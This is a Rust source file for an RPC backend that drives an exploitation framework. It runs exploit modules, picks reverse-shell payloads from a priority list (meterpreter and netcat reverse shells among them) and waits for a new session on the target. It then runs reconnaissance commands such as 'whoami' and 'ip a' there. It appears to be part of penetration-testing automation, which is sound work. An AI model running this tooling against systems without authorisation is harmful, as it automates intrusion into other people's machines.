use std::collections::BTreeMap;
use std::time::Duration;

use async_trait::async_trait;
use av_model::{
    BackendConnectionError, ExecDetails, ModuleClass, ModuleDescriptor, ModuleExecutionError,
    ModuleTimeoutError,
};
use parking_lot::RwLock;
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};
use tracing::{debug, warn};

use crate::backend::ExecutionBackend;

const CONN_MAX_TRIES: u32 = 10;
const CONN_RETRY_BACKOFF: Duration = Duration::from_secs(4);
const MAX_SESSION_WAIT: Duration = Duration::from_secs(30);
const SESSION_POLL_INTERVAL: Duration = Duration::from_secs(3);

/// Fixed command set run against a freshly captured session to populate `gatheredInfo` (§4.3).
const INFO_COMMANDS: &[&str] = &["uname -a", "whoami", "ip a", "ipconfig"];

/// Payload priority order used when nothing in the param set or compatible-payload list
/// contains "meterpreter" (§4.3).
const DEFAULT_PAYLOAD_PRIORITY: &[&str] = &[
    "windows/meterpreter/reverse_tcp",
    "java/meterpreter/reverse_tcp",
    "php/meterpreter/reverse_tcp",
    "php/meterpreter_reverse_tcp",
    "ruby/shell_reverse_tcp",
    "cmd/unix/interact",
    "cmd/unix/reverse",
    "cmd/unix/reverse_perl",
    "cmd/unix/reverse_netcat_gaping",
    "windows/meterpreter/reverse_nonx_tcp",
    "windows/meterpreter/reverse_ord_tcp",
    "windows/shell/reverse_tcp",
    "generic/shell_reverse_tcp",
];

#[derive(Debug, Serialize)]
struct JsonRpcRequest {
    jsonrpc: String,
    method: String,
    params: Vec<Value>,
    id: u64,
}

#[derive(Debug, Deserialize)]
struct JsonRpcResponse {
    #[allow(dead_code)]
    jsonrpc: String,
    result: Option<Value>,
    error: Option<JsonRpcError>,
    #[allow(dead_code)]
    id: u64,
}

#[derive(Debug, Deserialize)]
struct JsonRpcError {
    code: i64,
    message: String,
}

/// A session captured after a successful exploit run.
#[derive(Debug, Clone, Deserialize)]
pub struct RpcSession {
    pub id: String,
    pub via_exploit: String,
}

/// Drives RPC modules against a remote exploitation-framework RPC endpoint. Connects with
/// bounded retry, authenticates once, and issues module-execution/session calls over a
/// JSON-RPC transport (§4.3, §9).
pub struct RpcBackend {
    endpoint: String,
    client: reqwest::Client,
    token: RwLock<Option<String>>,
}

impl RpcBackend {
    pub async fn connect(
        endpoint: &str,
        user: &str,
        password: &str,
    ) -> Result<Self, BackendConnectionError> {
        let backend = Self {
            endpoint: endpoint.to_string(),
            client: reqwest::Client::new(),
            token: RwLock::new(None),
        };
        backend.login_with_retry(user, password).await?;
        Ok(backend)
    }

    async fn login_with_retry(&self, user: &str, password: &str) -> Result<(), BackendConnectionError> {
        let mut attempt = 0;
        loop {
            attempt += 1;
            match self.call("auth.login", vec![json!(user), json!(password)]).await {
                Ok(result) => {
                    let token = result
                        .get("token")
                        .and_then(Value::as_str)
                        .ok_or_else(|| BackendConnectionError::AuthenticationFailed)?;
                    *self.token.write() = Some(token.to_string());
                    return Ok(());
                }
                Err(RpcCallError::Rpc { code, message }) if code == 401 || message.to_lowercase().contains("auth") => {
                    return Err(BackendConnectionError::AuthenticationFailed);
                }
                Err(e) if attempt >= CONN_MAX_TRIES => {
                    return Err(BackendConnectionError::Rpc(format!(
                        "exhausted {CONN_MAX_TRIES} connection attempts: {e}"
                    )));
                }
                Err(e) => {
                    warn!(attempt, error = %e, "rpc connection refused, retrying");
                    tokio::time::sleep(CONN_RETRY_BACKOFF).await;
                }
            }
        }
    }

    async fn call(&self, method: &str, mut params: Vec<Value>) -> Result<Value, RpcCallError> {
        if let Some(token) = self.token.read().clone() {
            params.insert(0, json!(token));
        }
        let request = JsonRpcRequest {
            jsonrpc: "2.0".to_string(),
            method: method.to_string(),
            params,
            id: 1,
        };
        let response = self
            .client
            .post(&self.endpoint)
            .json(&request)
            .send()
            .await
            .map_err(|e| RpcCallError::Transport(e.to_string()))?;
        let parsed: JsonRpcResponse = response
            .json()
            .await
            .map_err(|e| RpcCallError::Transport(e.to_string()))?;
        if let Some(err) = parsed.error {
            return Err(RpcCallError::Rpc {
                code: err.code,
                message: err.message,
            });
        }
        parsed
            .result
            .ok_or_else(|| RpcCallError::Transport("empty RPC result".to_string()))
    }

    async fn list_sessions(&self) -> Vec<RpcSession> {
        match self.call("session.list", vec![]).await {
            Ok(Value::Object(map)) => map
                .into_iter()
                .filter_map(|(id, v)| {
                    let via_exploit = v.get("via_exploit")?.as_str()?.to_string();
                    Some(RpcSession { id, via_exploit })
                })
                .collect(),
            _ => Vec::new(),
        }
    }

    fn select_payload(&self, module_path: &str, params: &BTreeMap<String, String>, compatible: &[String]) -> String {
        if let Some(explicit) = params.get("PAYLOAD") {
            return explicit.clone();
        }
        if let Some(meterpreter) = compatible.iter().find(|p| p.to_lowercase().contains("meterpreter")) {
            return meterpreter.clone();
        }
        for candidate in DEFAULT_PAYLOAD_PRIORITY {
            if compatible.iter().any(|p| p == candidate) {
                return candidate.to_string();
            }
        }
        compatible
            .first()
            .cloned()
            .unwrap_or_else(|| format!("generic/shell_reverse_tcp /* no compatible payload for {module_path} */"))
    }

    async fn gather_info(&self, session_id: &str) -> BTreeMap<String, String> {
        let mut info = BTreeMap::new();
        for cmd in INFO_COMMANDS {
            if let Ok(result) = self
                .call("session.shell_write", vec![json!(session_id), json!(format!("{cmd}\n"))])
                .await
            {
                info.insert(cmd.to_string(), result.to_string());
            }
        }
        info
    }

    /// Logs the session out and drops the client-side token (§4.3 teardown).
    pub async fn shutdown(&self) {
        if self.token.read().is_some() {
            let _ = self.call("auth.logout", vec![]).await;
            *self.token.write() = None;
        }
    }
}

#[derive(Debug, thiserror::Error)]
enum RpcCallError {
    #[error("transport error: {0}")]
    Transport(String),
    #[error("rpc error {code}: {message}")]
    Rpc { code: i64, message: String },
}

#[async_trait]
impl ExecutionBackend for RpcBackend {
    async fn run(
        &self,
        descriptor: &ModuleDescriptor,
        params: &BTreeMap<String, String>,
        timeout: Duration,
    ) -> Result<ExecDetails, ModuleExecutionError> {
        let module_path = descriptor
            .path
            .as_deref()
            .ok_or_else(|| ModuleExecutionError::Backend("rpc module has no path".into()))?;

        let session_budget = std::cmp::min(timeout / 2, MAX_SESSION_WAIT);
        let exec_budget = timeout.saturating_sub(session_budget);

        let mut exec_params: Vec<Value> = vec![json!(module_path)];
        for (k, v) in params.iter().filter(|(k, _)| *k != "PAYLOAD") {
            exec_params.push(json!({ k: v }));
        }

        if descriptor.class == ModuleClass::Exploit {
            let compatible = self.compatible_payloads(module_path).await;
            let payload = self.select_payload(module_path, params, &compatible);
            exec_params.push(json!({ "PAYLOAD": payload }));
        }

        let presessions = if descriptor.class == ModuleClass::Exploit {
            self.list_sessions().await
        } else {
            Vec::new()
        };

        let run_call = self.call("module.execute", exec_params);
        let executed = tokio::time::timeout(exec_budget, run_call)
            .await
            .map_err(|_| ModuleExecutionError::Timeout(ModuleTimeoutError))?
            .map_err(|e| ModuleExecutionError::Backend(e.to_string()))?;

        let output = executed.to_string();
        let mut details = ExecDetails::new(descriptor.name.clone(), "rpc");
        details.output = Some(output);

        if descriptor.class == ModuleClass::Exploit {
            let session = self.wait_for_new_session(&module_path.to_string(), &presessions, session_budget).await;
            if let Some(session) = session {
                details.gathered_info = self.gather_info(&session.id).await;
                details.session = Some(session.id);
            }
        }

        debug!(module = %descriptor.name, "rpc module execution completed");
        Ok(details)
    }
}

impl RpcBackend {
    async fn compatible_payloads(&self, module_path: &str) -> Vec<String> {
        match self.call("module.compatible_payloads", vec![json!(module_path)]).await {
            Ok(Value::Object(map)) => map
                .get("payloads")
                .and_then(Value::as_array)
                .map(|arr| arr.iter().filter_map(|v| v.as_str().map(str::to_string)).collect())
                .unwrap_or_default(),
            _ => Vec::new(),
        }
    }

    async fn wait_for_new_session(
        &self,
        module_path: &str,
        presessions: &[RpcSession],
        budget: Duration,
    ) -> Option<RpcSession> {
        let deadline = tokio::time::Instant::now() + budget;
        let preexisting: std::collections::HashSet<String> = presessions.iter().map(|s| s.id.clone()).collect();
        while tokio::time::Instant::now() < deadline {
            let current = self.list_sessions().await;
            if let Some(new_session) = current
                .into_iter()
                .find(|s| !preexisting.contains(&s.id) && s.via_exploit == module_path)
            {
                return Some(new_session);
            }
            tokio::time::sleep(SESSION_POLL_INTERVAL).await;
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn backend() -> RpcBackend {
        RpcBackend {
            endpoint: "http://unused".into(),
            client: reqwest::Client::new(),
            token: RwLock::new(None),
        }
    }

    #[test]
    fn explicit_payload_param_wins() {
        let b = backend();
        let mut params = BTreeMap::new();
        params.insert("PAYLOAD".to_string(), "custom/payload".to_string());
        let chosen = b.select_payload("exploit/x", &params, &["windows/meterpreter/reverse_tcp".to_string()]);
        assert_eq!(chosen, "custom/payload");
    }

    #[test]
    fn meterpreter_match_takes_priority_over_default_order() {
        let b = backend();
        let params = BTreeMap::new();
        let compatible = vec!["generic/shell_reverse_tcp".to_string(), "linux/x86/meterpreter/reverse_tcp".to_string()];
        let chosen = b.select_payload("exploit/x", &params, &compatible);
        assert_eq!(chosen, "linux/x86/meterpreter/reverse_tcp");
    }

    #[test]
    fn falls_back_to_default_priority_order() {
        let b = backend();
        let params = BTreeMap::new();
        let compatible = vec!["generic/shell_reverse_tcp".to_string(), "ruby/shell_reverse_tcp".to_string()];
        let chosen = b.select_payload("exploit/x", &params, &compatible);
        assert_eq!(chosen, "ruby/shell_reverse_tcp");
    }

    #[test]
    fn falls_back_to_first_compatible_when_nothing_matches() {
        let b = backend();
        let params = BTreeMap::new();
        let compatible = vec!["some/unlisted/payload".to_string()];
        let chosen = b.select_payload("exploit/x", &params, &compatible);
        assert_eq!(chosen, "some/unlisted/payload");
    }
}
